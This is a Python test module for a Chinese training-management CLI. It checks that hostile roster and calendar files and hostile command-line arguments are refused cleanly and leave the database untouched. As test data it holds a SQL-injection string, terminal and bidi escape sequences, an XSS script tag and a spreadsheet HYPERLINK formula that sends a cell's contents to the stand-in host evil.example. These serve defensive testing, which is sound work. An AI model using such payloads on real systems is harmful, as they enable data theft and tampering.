"""The hostile-input corpus (tests/hostile_inputs/): every file and argument gets one clear message and the
database stays exactly as it was; the few that are legitimate are stored and shown literally."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from reliability.helpers import ROOT, dump, file_digest, make_private, run_cli
from zhijin_training.services.context import Context
from zhijin_training.services.errors import DomainError

CORPUS = ROOT / "tests" / "hostile_inputs"
ROSTER_REFUSED = sorted(
    p.name for p in CORPUS.iterdir() if p.name.startswith("roster_") and "_ok" not in p.name
)
# all-day sessions skip the 1990–2200 range check of schedule._times (timed ones have it): reported, not ours
KNOWN_GAPS: dict[str, str] = {}  # hostile inputs not yet refused, with the reason (none left)
ICS_REFUSED = [
    pytest.param(name, marks=pytest.mark.xfail(reason=KNOWN_GAPS[name], strict=True))
    if name in KNOWN_GAPS
    else name
    for name in sorted(p.name for p in CORPUS.iterdir() if p.name.startswith("ics_") and "_ok" not in p.name)
]
LONG = "张" * 10_000


def _one_clear_line(message: str) -> None:
    assert message.strip(), "empty message"
    assert "\n" not in message.strip() and "Traceback" not in message
    assert "\x1b" not in message  # an escape sequence in the input never reaches the terminal


def _roster_import(ctx: Context, path: Path) -> object:
    from zhijin_training.sheets import roster_io

    preview = roster_io.preview_import(ctx, path)
    return roster_io.apply_import(ctx, preview)


def _ics_import(ctx: Context, path: Path) -> object:
    from zhijin_training.ical import importer

    # sessions from another calendar join the programme chosen in the preview (here: a new one)
    choice = importer.ProgrammeChoice(new_title="外来日历")
    preview = importer.preview_import(ctx, path.read_bytes(), path.name, programme=choice)
    if not (preview.added or preview.changed):
        raise DomainError(f"{path.name}: nothing to import: " + "; ".join(i.reason for i in preview.skipped))
    return importer.apply_import(ctx, preview)


@pytest.mark.parametrize("name", ROSTER_REFUSED)
def test_hostile_roster_file_is_refused_and_nothing_changes(ctx: Context, db_path: Path, name: str) -> None:
    before = dump(db_path)
    with pytest.raises(DomainError) as refused:
        _roster_import(ctx, CORPUS / name)
    _one_clear_line(str(refused.value))
    assert dump(db_path) == before


@pytest.mark.parametrize("name", ICS_REFUSED)
def test_hostile_calendar_file_is_refused_and_nothing_changes(ctx: Context, db_path: Path, name: str) -> None:
    before = dump(db_path)
    with pytest.raises(DomainError) as refused:
        _ics_import(ctx, CORPUS / name)
    _one_clear_line(str(refused.value))
    assert dump(db_path) == before


def test_huge_files_are_refused(ctx: Context, db_path: Path, tmp_path: Path) -> None:
    before = dump(db_path)
    huge_cell = tmp_path / "roster_huge_cell.csv"
    huge_cell.write_text("姓名,单位\n" + "王" * 300_000 + ",茶店\n", encoding="utf-8")
    many = tmp_path / "roster_5000_rows_last_bad.csv"
    many.write_text(
        "姓名,单位\n" + "".join(f"干部{i:05d},茶店\n" for i in range(5000)) + "最后一行,火星乡\n",
        encoding="utf-8",
    )
    huge_ics = tmp_path / "huge.ics"
    huge_ics.write_bytes(
        b"BEGIN:VCALENDAR\r\n" + b"X-JUNK:" + b"x" * (21 * 1024 * 1024) + b"\r\nEND:VCALENDAR\r\n"
    )
    for attempt in (
        lambda: _roster_import(ctx, huge_cell),
        lambda: _roster_import(ctx, many),
        lambda: _ics_import(ctx, huge_ics),
    ):
        with pytest.raises(DomainError) as refused:
            attempt()
        _one_clear_line(str(refused.value)[:2000])
    assert dump(db_path) == before


def test_legitimate_odd_roster_text_is_kept_literally(ctx: Context) -> None:
    from zhijin_training.services import roster

    for name in ("roster_bom_ok.csv", "roster_markup_ok.csv", "roster_formula_ok.csv"):
        _roster_import(ctx, CORPUS / name)
    names = {c.name for c in roster.list_cadres(ctx)}
    assert "王小明" in names  # the BOM did not stick to the first header or name
    assert "[bold red]李[/bold red]<script>alert(1)</script>" in names
    assert '=HYPERLINK("http://evil.example/?"&A1;"点我")' in names


def test_legitimate_odd_calendar_text_is_kept_literally(ctx: Context) -> None:
    from zhijin_training.services import schedule

    for name in ("ics_bom_ok.ics", "ics_markup_ok.ics", "ics_utf16_bom_ok.ics"):
        _ics_import(ctx, CORPUS / name)
    titles = {s.title for s in schedule.list_sessions(ctx)}
    assert "[bold red]红色[/bold red] <b>粗体</b> =1+1" in titles


# ---------------------------------------------------------------- command-line arguments
CLI_CASES: dict[str, list[str]] = {
    "impossible date": [
        "sessions",
        "add",
        "--programme",
        "1",
        "--start",
        "2026-02-30 15:00",
        "--end",
        "2026-02-30 17:00",
    ],
    "end before start": [
        "sessions",
        "add",
        "--programme",
        "1",
        "--start",
        "2026-12-04 17:00",
        "--end",
        "2026-12-04 15:00",
    ],
    "last day before first": [
        "sessions",
        "add",
        "--programme",
        "1",
        "--first-day",
        "2026-12-05",
        "--last-day",
        "2026-12-01",
    ],
    "year 1850": [
        "sessions",
        "add",
        "--programme",
        "1",
        "--start",
        "1850-01-01 15:00",
        "--end",
        "1850-01-01 17:00",
    ],
    "year 2999": [
        "sessions",
        "add",
        "--programme",
        "1",
        "--start",
        "2999-01-01 15:00",
        "--end",
        "2999-01-01 17:00",
    ],
    "month 13": ["sessions", "list", "--from", "2026-13-01"],
    "words for a date": ["audit", "list", "--from", "yesterday"],
    "unknown status": ["attendance", "mark", "1", "#1", "maybe"],
    "unknown cadre": ["attendance", "mark", "1", "nobody@nowhere", "present"],
    "unknown session": ["attendance", "mark", "99999", "#1", "present"],
    "on leave without reason": ["attendance", "mark", "1", "#2", "on_leave"],
    "10,000-character name": ["cadres", "add", LONG, "--unit", "茶店"],
    "escape sequence in a name": ["cadres", "add", "\x1b[31m红\x1b[0m", "--unit", "茶店"],
    "terminal title escape": ["units", "add", "乡\x1b]0;pwned\x07"],
    "bidi override": ["cadres", "add", "王\u202e明", "--unit", "茶店"],
    "unknown unit": ["cadres", "add", "王小明", "--unit", "火星乡"],
    "SQL as a phone": ["cadres", "add", "王小明", "--unit", "茶店", "--phone", "'; DROP TABLE cadre; --"],
    "unknown unit kind": ["units", "add", "新乡", "--kind", "planet"],
    "10,000-character note": ["sessions", "edit", "1", "--note", "注" * 10_000],
    "unknown programme": ["sessions", "add", "--programme", "不存在的项目", "--first-day", "2026-12-01"],
}


def _main(args: list[str], capfd: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    """The CLI's own main() (errors -> one line, exit 1), in this process: the corpus is large."""
    from zhijin_training.cli.main import main

    old = sys.argv
    sys.argv = ["zhijin-training", *args]
    try:
        main()
        code = 0
    except SystemExit as done:
        code = int(done.code or 0)
    finally:
        sys.argv = old
    out, err = capfd.readouterr()
    return code, out, err


def test_hostile_cli_arguments_change_nothing_byte_for_byte(
    demo_path: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    make_private(demo_path)
    from reliability.helpers import checkpoint

    checkpoint(demo_path)
    monkeypatch.setenv("ZHIJIN_TRAINING_DB", str(demo_path))
    monkeypatch.setenv("ZHIJIN_TRAINING_CONFIG", str(ROOT / "no-such.toml"))
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.delenv("ZHIJIN_TRAINING_USER", raising=False)
    before, digest = dump(demo_path), file_digest(demo_path)
    failures = []
    for what, args in CLI_CASES.items():
        code, out, err = _main(args, capfd)
        if code != 1:
            failures.append(f"{what}: exit {code}: {out[-200:]} {err[-200:]}")
            continue
        _one_clear_line(err)
        assert err.startswith("错误 error: "), (what, err)
    assert failures == []
    assert dump(demo_path) == before
    assert file_digest(demo_path) == digest  # byte for byte
    print(f"\n{len(CLI_CASES)} hostile command lines refused")


def test_hostile_arguments_through_the_real_program(demo_path: Path) -> None:
    """One of them end to end through the installed script (the in-process runs above stand for the rest)."""
    make_private(demo_path)
    before = dump(demo_path)
    for args in (CLI_CASES["escape sequence in a name"],):
        done = run_cli(args, demo_path)
        assert done.returncode == 1
        _one_clear_line(done.stderr.decode())
    assert dump(demo_path) == before


def test_markup_is_stored_and_printed_literally(
    demo_path: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ZHIJIN_TRAINING_DB", str(demo_path))
    monkeypatch.setenv("ZHIJIN_TRAINING_CONFIG", str(ROOT / "no-such.toml"))
    from zhijin_training.cli import common

    monkeypatch.setattr(common.console, "width", 250)  # the console may exist already, sized at import
    name = "[bold red]李[/bold red]<i>x</i>"
    assert _main(["cadres", "add", name, "--unit", "茶店"], capfd)[0] == 0
    code, out, _ = _main(["cadres", "list", "--search", "李", "--json"], capfd)
    assert code == 0 and name in {c["name"] for c in json.loads(out)}
    code, out, _ = _main(["cadres", "list", "--unit", "茶店"], capfd)
    assert code == 0 and name in out  # not interpreted as Rich markup


def test_corpus_size() -> None:
    files = len(ROSTER_REFUSED) + len(ICS_REFUSED)
    print(
        f"\nhostile files: {files} refused + 5 accepted literally + 3 huge; command lines: {len(CLI_CASES)}"
    )
    assert files >= 30
